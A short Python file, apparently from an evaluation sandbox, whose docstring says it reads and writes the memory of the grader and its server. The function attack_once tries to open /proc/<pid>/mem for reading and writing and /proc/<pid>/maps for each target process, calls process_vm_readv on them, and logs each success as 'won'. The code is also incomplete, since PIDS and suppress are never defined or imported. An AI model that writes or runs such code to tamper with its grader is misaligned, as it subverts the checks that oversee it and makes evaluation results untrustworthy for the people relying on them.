"""Reads and writes the memory of the grader and of its server."""

import ctypes
import os

def attack_once():
    libc, won = ctypes.CDLL(None, use_errno=True), []
    local = ctypes.create_string_buffer(8)

    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    for pid in PIDS:
        for name, flags in (("mem", os.O_RDONLY), ("mem", os.O_RDWR), ("maps", os.O_RDONLY)):
            with suppress(OSError):
                os.close(os.open(f"/proc/{pid}/{name}", flags))
                won.append((pid, name))
        ours = Piece(ctypes.addressof(local), 8)
        theirs = Piece(id(None), 8)
        if libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) == 8:
            won.append((pid, "process_vm_readv"))
    return won
